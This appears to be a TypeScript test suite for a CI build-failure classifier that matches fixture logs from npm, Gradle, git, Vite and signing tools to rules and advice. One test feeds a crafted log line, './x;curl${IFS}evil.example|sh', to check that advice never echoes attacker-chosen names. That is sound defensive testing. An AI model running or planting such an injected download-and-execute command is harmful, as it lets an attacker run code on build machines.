import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { failureRules } from './failure-rules.js';
import { iosSigningOutputs } from '../../../test/support/failure-summaries/ios-signing-outputs.js';
import { packageOutputs } from '../../../test/support/failure-summaries/package-outputs.js';
import { xcodeOutputs } from '../../../test/support/failure-summaries/xcode-outputs.js';
import { findFailure } from './find-failure.js';
import { readLogEnd } from './log-end.js';

/**
 * Outputs of real programs in projects with one mistake each; only paths and addresses were replaced. Those of Gradle and
 * its Android plugin are made from what they are known to print, those for iOS from published outputs, which are named.
 */
const folder = join(import.meta.dirname, 'fixtures');
const fixtures = readdirSync(folder, { recursive: true })
  .map(String)
  .filter((name) => name.endsWith('.txt'))
  .sort();

/** The rules whose mark each output contains, and what the summary has to say about it. */
const expected: Readonly<Record<string, readonly [rules: string, cause: RegExp, source?: string]>> = {
  ...iosSigningOutputs,
  ...packageOutputs,
  ...xcodeOutputs,
  'android/android-compile-sdk': ['android-compile-sdk', /no compileSdk/],
  'android/android-duplicate-class': [
    'android-duplicate-class gradle-task-failed',
    /class kotlin\.collections\.jdk8\.CollectionsJDK8Kt/,
  ],
  'android/android-google-services': [
    'android-google-services gradle-task-failed',
    /no google-services\.json/,
  ],
  'android/android-google-services-client': [
    'android-google-services gradle-task-failed',
    /no client for com\.acme\.shop\.staging/,
  ],
  'android/android-java': [
    'android-java gradle-task-failed',
    /Java compiler found an error in MainActivity\.java/,
  ],
  'android/android-kotlin': [
    'android-kotlin gradle-task-failed',
    /Kotlin compiler found an error in Cart\.kt/,
  ],
  'android/android-licences': ['android-licences', /lacks build-tools;35\.0\.0, whose licence/],
  'android/android-manifest': ['android-manifest gradle-task-failed', /do not fit together/],
  'android/android-min-sdk': [
    'android-min-sdk android-manifest gradle-task-failed',
    /higher minSdkVersion than 22/,
  ],
  'android/android-namespace': ['android-namespace', /no namespace/],
  'android/android-ndk-missing': ['android-ndk-missing gradle-task-failed', /does not have the NDK that/],
  'android/android-ndk-version': ['android-ndk-missing', /the NDK 27\.0\.12077973/],
  'android/android-resources': ['android-resources gradle-task-failed', /Resources of the app/],
  'android/android-sdk-missing': ['android-sdk-missing', /does not find an Android SDK/],
  'android/android-sdk-package': ['android-sdk-package', /does not have android-35/],
  'compilers/angular-budget': ['angular-budget', /larger than its budget/],
  'compilers/angular-configuration': ['angular-configuration', /no configuration staging\./],
  'compilers/angular-import': ['angular-import angular-code', /imports \.\/cart,/],
  'compilers/angular-not-installed': ['angular-not-installed', /@angular\/build:application/],
  'compilers/angular-type': ['angular-code', /Angular compiler/],
  'compilers/angular-unknown-element': ['angular-unknown-element angular-code', /uses app-cart,/],
  'compilers/typescript': ['typescript', /TypeScript/],
  'compilers/typescript-vue': ['typescript', /TypeScript/],
  'git/git-authentication': ['git-authentication', /git\.acme\.example refuses the credentials/],
  'git/git-commit': ['git-commit', /the commit 0123456789/],
  'git/git-describe': ['git-no-tags', /finds no tag/],
  'git/git-describe-shallow': ['git-no-tags', /finds no tag/],
  'git/git-disk': ['disk', /disk/],
  'git/git-forbidden': ['git-forbidden', /git\.acme\.example/],
  'git/git-lfs-pull': ['git-lfs-missing', /a file in Git LFS: 6667b2d1[\da-f]{56}\.$/],
  'git/git-lfs-smudge': ['git-lfs-missing', /a file in Git LFS: src\/assets\/logo\.png\.$/],
  'git/git-no-credentials': ['git-authentication', /git\.acme\.example refuses the credentials/],
  'git/git-no-repository': ['git-no-repository', /uploaded source has no \.git\.$/],
  'git/git-not-found': ['git-not-found', /git\.acme\.example/],
  'git/git-ref': ['git-ref', /no branch or tag release\/9\./],
  'git/git-refused': ['git-unreachable', /127\.0\.0\.1:4999/],
  'git/git-server-failed': ['git-server-failed', /git\.acme\.example/],
  'git/git-submodule': ['git-transport', /begin with file:/],
  'git/git-submodule-address': ['git-submodule-address', /submodule lib has no address/],
  'git/git-submodule-commit': ['git-submodule-commit git-commit', /repository of the submodule lib does not/],
  'git/git-submodule-not-listed': [
    'git-submodule-not-listed git-authentication',
    /submoduleRepositories .* does not list "acme\/lib"\./,
  ],
  'git/git-unreachable': ['git-unreachable', /git\.acme\.invalid/],
  'gradle/gradle-class-version': ['gradle-class-version', /needs Java 21\./],
  'gradle/gradle-daemon-gone': ['gradle-daemon-gone', /was killed/],
  'gradle/gradle-distribution': ['gradle-distribution', /could not download Gradle/],
  'gradle/gradle-heap': ['gradle-heap gradle-task-failed', /more memory/],
  'gradle/gradle-java-too-new': ['gradle-java-too-new', /does not know Java 21/],
  'gradle/gradle-java-too-old': ['gradle-java-too-old', /requires Java 17/],
  'gradle/gradle-jvm-too-old': ['gradle-java-too-old', /requires Java 17/],
  'gradle/gradle-plugin-missing': ['gradle-plugin-missing', /plugin com\.acme\.flavors/],
  'gradle/gradle-task-failed': ['gradle-task-failed', /task :app:uploadSymbols/],
  'gradle/gradle-task-missing': ['gradle-task-missing', /no task assembleStagingRelease/],
  'gradle/gradle-unreachable': ['gradle-unresolved', /com\.android\.tools\.build:gradle:8\.7\.2/],
  'gradle/gradle-unresolved': ['gradle-unresolved gradle-task-failed', /com\.acme:payments:4\.2\.1/],
  'gradle/gradle-wrapper-crlf': ['gradle-wrapper-crlf', /line ends of Windows/],
  'gradle/gradle-wrapper-jar-missing': ['gradle-wrapper-jar-missing', /gradle-wrapper\.jar/],
  'gradle/gradle-wrapper-not-executable': ['gradle-wrapper-not-executable permission', /cannot be started/],
  'gradle/gradle-wrapper-not-found': ['gradle-wrapper-not-executable', /cannot be started/],
  'machine/bash-command-not-found': ['command-not-found', /command ionic/],
  'machine/bash-processes': ['processes', /more processes/],
  'machine/node-disk': ['disk', /disk/],
  'machine/node-heap': ['heap', /more memory/],
  'machine/node-module-missing': ['module-missing', /needs fs-extra,/],
  'machine/node-permission': ['permission', /may not read, write or run \/opt\/dist\.txt\.$/],
  'machine/node-spawn-permission': ['permission', /may not read, write or run \.\/scripts\/build\.sh\.$/],
  'machine/openvpn-device': ['network-device', /device of VPNs/],
  'machine/runner-network': ['runner-network network-device', /its machine denies it \/dev\/net\/tun\.$/],
  'machine/sh-killed': ['killed', /by force/],
  'machine/sh-permission': ['permission', /may not read, write or run \.\/scripts\/build\.sh\.$/],
  'machine/sh-processes': ['processes', /more processes/],
  'npm/npm-authentication': ['npm-authentication', /refuses the token/],
  'npm/npm-command-not-found': ['command-not-found', /command vite/],
  'npm/npm-conflict': ['npm-conflict', /react@/],
  'npm/npm-dev-engines': [
    'npm-dev-engines',
    /devEngines .*: Invalid name "pnpm" does not match "npm" for "packageManager"\.$/,
  ],
  'npm/npm-dev-engines-node': ['npm-dev-engines', /"\^22" does not match "v24\.21\.0" for "runtime"\.$/],
  'npm/npm-disk': ['disk', /disk/],
  'npm/npm-engine': ['npm-engine', /another version of Node\.js/],
  'npm/npm-forbidden': ['npm-forbidden', /npm\.acme\.example/],
  'npm/npm-install-script': ['npm-install-script', /script that npm runs/],
  'npm/npm-integrity': ['npm-integrity', /checksum/],
  'npm/npm-lock-missing': ['npm-lock-missing', /there is none/],
  'npm/npm-lock-out-of-step': ['npm-lock-out-of-step', /does not fit/],
  'npm/npm-no-version': ['npm-no-version', /is-number@\^99\.0\.0/],
  'npm/npm-not-found': ['npm-not-found', /@slipway-no-such-scope\/missing-package@\^1\.0\.0/],
  'npm/npm-package-json-invalid': ['npm-package-json-invalid', /not valid JSON/],
  'npm/npm-package-json-missing': ['npm-package-json-missing', /no package\.json/],
  'npm/npm-registry-closed': [
    'npm-registry-unreachable builds-closed-host',
    /do not reach npm\.acme\.example, which is not a public address\./,
  ],
  'npm/npm-registry-failed': ['npm-registry-failed', /npm\.acme\.example has failed/],
  'npm/npm-registry-refused': ['npm-registry-unreachable', /127\.0\.0\.1:4999/],
  'npm/npm-registry-unknown': ['npm-registry-unreachable', /registry\.acme\.invalid/],
  'npm/npm-script-missing': ['npm-script-missing', /no script "build"/],
  'npm/npm-workspace-protocol': ['npm-workspace-protocol', /npm does not know workspace:\*,/],
  'package-managers/bun-lock-out-of-step': ['lock-out-of-step', /lock file does not fit package\.json\.$/],
  'package-managers/corepack': ['corepack', /Corepack cannot install/],
  'package-managers/pnpm-lock-out-of-step': ['lock-out-of-step', /lock file does not fit package\.json\.$/],
  'package-managers/pnpm-not-found': ['command-not-found', /command pnpm does not exist/],
  'package-managers/pnpm-program-missing': ['program-of-package-missing', /package of the command cap\.$/],
  'package-managers/pnpm11-program-missing': ['program-of-package-missing', /package of the command cap\.$/],
  'package-managers/pnpm12-lock-out-of-step': ['lock-out-of-step', /lock file does not fit package\.json\.$/],
  'package-managers/pnpm12-program-missing': ['program-of-package-missing', /package of the command cap\.$/],
  'package-managers/pnpm8-lock-out-of-step': ['lock-out-of-step', /lock file does not fit package\.json\.$/],
  'package-managers/yarn-lock-out-of-step': ['lock-out-of-step', /lock file does not fit package\.json\.$/],
  'package-managers/yarn-program-missing': ['program-of-package-missing', /package of the command cap\.$/],
  'package-managers/yarn1-lock-out-of-step': ['lock-out-of-step', /lock file does not fit package\.json\.$/],
  'package-managers/yarn1-program-missing': ['program-of-package-missing', /package of the command cap\.$/],
  'project/capacitor-config': ['capacitor-config', /cannot be read: Error: API_URL is not set\.$/],
  'project/capacitor-config-import': ['capacitor-config', /Error: Cannot find module '\.\/shared'\.$/],
  'project/capacitor-missing': ['command-of-package-missing', /package of the command cap\.$/],
  'project/cordova-missing': ['package-of-command-missing', /the package cordova,/],
  'project/cordova-script': ['command-not-found', /command cordova does not exist/],
  'project/output-files': ['output-files', /more than 20,000 files/],
  'signing/signing-apksigner-alias': ['signing-alias signing-signer', /no key other\./],
  'signing/signing-apksigner-key-password': ['signing-key-password signing-signer', /password of the key/],
  'signing/signing-apksigner-pkcs12-password': [
    'signing-store-password signing-signer',
    /password of the keystore/,
  ],
  'signing/signing-apksigner-signer': ['signing-signer', /cannot use the key/],
  'signing/signing-apksigner-store-password': [
    'signing-store-password signing-signer',
    /password of the keystore/,
  ],
  'signing/signing-apksigner-truncated': ['signing-damaged signing-signer', /damaged/],
  'signing/signing-gradle-alias': ['signing-alias gradle-task-failed', /no key other\./],
  'signing/signing-gradle-file': ['signing-file-missing gradle-task-failed', /signs with release\.jks/],
  'signing/signing-gradle-key-password': ['signing-key-password gradle-task-failed', /password of the key/],
  'signing/signing-gradle-store-password': [
    'signing-store-password gradle-task-failed',
    /password of the keystore/,
  ],
  'signing/signing-jarsigner-alias': ['signing-alias', /no key other\./],
  'signing/signing-jarsigner-file': ['signing-file-missing', /no package to sign/],
  'signing/signing-jarsigner-key-password': ['signing-key-password', /password of the key/],
  'signing/signing-jarsigner-store-password': ['signing-store-password', /password of the keystore/],
  'vite/vite-config': ['vite-config vite-error', /vite\.config\.js/],
  'vite/vite-entry': ['vite-entry vite-error', /index\.html/],
  'vite/vite-export': ['vite-export vite-error', /formatPrice/],
  'vite/vite-import': ['vite-import vite-error', /\.\/prices/],
  'vite/vite-package-missing': ['vite-package-missing vite-error', /dayjs/],
  'vite/vite-syntax': ['vite-error', /Vite found an error/],
  'vite/vite-vue': ['vite-error', /Vite found an error/],
  'vite/vite8-export': ['vite-export vite-error', /formatPrice/],
  'vite/vite8-import': ['vite-import vite-error', /\.\/prices/],
  'vite/vite8-package-missing': ['vite-package-missing vite-error', /dayjs/],
  'vite/vite8-syntax': ['vite-error', /Vite found an error/],
};

/** Outputs that no rule knows. */
const unknown = [
  'cocoapods/cocoapods-succeeded',
  'compilers/angular-succeeded',
  'gradle/gradle-succeeded',
  'machine/node-error',
  'vite/vite-succeeded',
  'xcode/xcode-succeeded',
];

/** The lines of an output as a summary sees them. */
function linesOf(name: string): readonly string[] {
  const payload = readFileSync(join(folder, `${name}.txt`), 'utf8');
  return readLogEnd([{ jobId: '', number: 1, payload, timestamp: '' }], 1).lines;
}

/** The names of all rules whose mark is in the lines. */
function rulesIn(lines: readonly string[]): string {
  return failureRules
    .filter(({ mark }) => lines.some((line) => mark.test(line)))
    .map(({ name }) => name)
    .join(' ');
}

it.each(Object.entries(expected))('recognizes %s, and nothing else in it', (name, [rules, cause]) => {
  const lines = linesOf(name);
  expect(rulesIn(lines)).toBe(rules);
  const failure = findFailure(failureRules, lines);
  expect(failure?.cause).toMatch(cause);
  expect(failure?.lines.length).toBeGreaterThan(0);
  expect(failure?.advice.length).toBeGreaterThan(0);
});

it.each(unknown)('recognizes nothing in %s', (name) => {
  expect(rulesIn(linesOf(name))).toBe('');
});

it('is tested with every output, and every rule with one', () => {
  expect(fixtures).toEqual([...Object.keys(expected), ...unknown].map((name) => `${name}.txt`).sort());
  const recognized = new Set(Object.values(expected).flatMap(([rules]) => rules.split(' ')));
  expect([...recognized].sort()).toEqual(failureRules.map(({ name }) => name).sort());
});

it('reports the failure that came last, and a general one only when no other is near', () => {
  const survived = linesOf('git/git-ref');
  const last = linesOf('npm/npm-script-missing');
  expect(findFailure(failureRules, [...survived, ...last])?.cause).toContain('no script');
  const output = Array.from({ length: 100 }, (_, index) => `line ${index}`);
  expect(
    findFailure(failureRules, [...survived, ...output, ...linesOf('vite/vite-syntax')])?.cause,
  ).toContain('Vite');
});

it.each([
  ['git/git-describe', '{"gitDepth":0}'],
  ['git/git-lfs-smudge', 'git lfs push --all origin'],
  ['git/git-no-repository', 'git rev-parse --short HEAD || echo "build-$CI_BUILD_NUMBER"'],
  ['git/git-submodule-address', 'git submodule add'],
  ['git/git-submodule-commit', 'git push --recurse-submodules=on-demand'],
  ['machine/openvpn-device', 'RUNNER_ALLOW'],
  ['machine/runner-network', 'slipway runner doctor'],
  ['machine/node-spawn-permission', 'git update-index --chmod=+x scripts/build.sh'],
  ['npm/npm-dev-engines', 'Remove "dependencyInstallCommand" from capawesome.config.json'],
  ['npm/npm-dev-engines-node', 'NODE_VERSION=22'],
  ['npm/npm-registry-unknown', 'registry=https://registry.npmjs.org/'],
  ['npm/npm-package-json-missing', 'the folder that "baseDir" of capawesome.config.json names'],
  ['npm/npm-workspace-protocol', 'Commit the lock file of your package manager, or "packageManager"'],
  ['package-managers/corepack', 'Remove "corepack enable"'],
  ['package-managers/pnpm-not-found', '"packageManager": "pnpm@10.34.9"'],
  ['package-managers/pnpm-program-missing', 'npm install --save-dev @capacitor/cli'],
  ['project/capacitor-config', 'process.env.API_URL ??'],
  ['project/capacitor-missing', 'npm install --save-dev @capacitor/cli'],
  ['project/cordova-missing', 'npm install --save-dev cordova'],
  ['project/cordova-script', 'npm install --save-dev cordova'],
  ['project/output-files', '"webDir": "dist"'],
])('says what to do for %s: %s', (name, line) => {
  expect(findFailure(failureRules, linesOf(name))?.advice.join('\n')).toContain(line);
});

it('puts no name that a build chose into a command', () => {
  const lines = ['sh: 1: ./x;curl${IFS}evil.example|sh: Permission denied'];
  const advice = findFailure(failureRules, lines)?.advice.join('\n') ?? '';
  expect(advice).toContain('git update-index --chmod=+x <file>');
  expect(advice).not.toContain('evil');
});

it('says with which setting a closed host is opened', () => {
  const advice = (line: string): readonly string[] => findFailure(failureRules, [line])?.advice ?? [];
  const [closed = ''] = linesOf('npm/npm-registry-closed').filter((line) => line.startsWith('§ Builds'));
  expect(advice(closed)[0]).toContain(' add npm.acme.example to RUNNER_ALLOW.');
});

it('recognizes older versions of npm', () => {
  const older = linesOf('npm/npm-conflict').map((line) => line.replace('npm error', 'npm ERR!'));
  expect(rulesIn(older)).toBe('npm-conflict');
});
